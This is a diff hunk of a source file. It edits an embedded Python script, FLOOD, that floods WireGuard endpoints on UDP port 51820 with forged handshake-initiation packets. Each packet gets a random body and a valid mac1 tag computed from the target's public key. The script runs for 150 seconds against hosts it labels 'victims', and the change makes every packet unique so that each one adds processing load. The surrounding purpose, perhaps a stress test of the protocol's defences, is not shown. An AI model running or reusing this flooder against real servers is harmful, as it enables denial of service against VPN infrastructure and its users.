@@ -26,16 +26,13 @@ print(s.makefile().read())
 FLOOD = """
 import base64, hashlib, os, socket, sys, time
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-batches = []
-for host, key in zip(sys.argv[1::2], sys.argv[2::2]):
-    mac_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
-    bodies = [b"\\1\\0\\0\\0" + os.urandom(112) for _ in range(1000)]
-    batches.append(((host, 51820), [b + hashlib.blake2s(b, key=mac_key, digest_size=16).digest() + bytes(16) for b in bodies]))
+victims = [((host, 51820), hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()) for host, key in zip(sys.argv[1::2], sys.argv[2::2])]
 end = time.monotonic() + 150
 while time.monotonic() < end:
-    for address, messages in batches:
-        for message in messages:
-            s.sendto(message, address)
+    for address, mac_key in victims:
+        for _ in range(1000):  # each another one: a repeated one is no load
+            body = b"\\1\\0\\0\\0" + os.urandom(112)
+            s.sendto(body + hashlib.blake2s(body, key=mac_key, digest_size=16).digest() + bytes(16), address)
     time.sleep(0.4)
 """
 
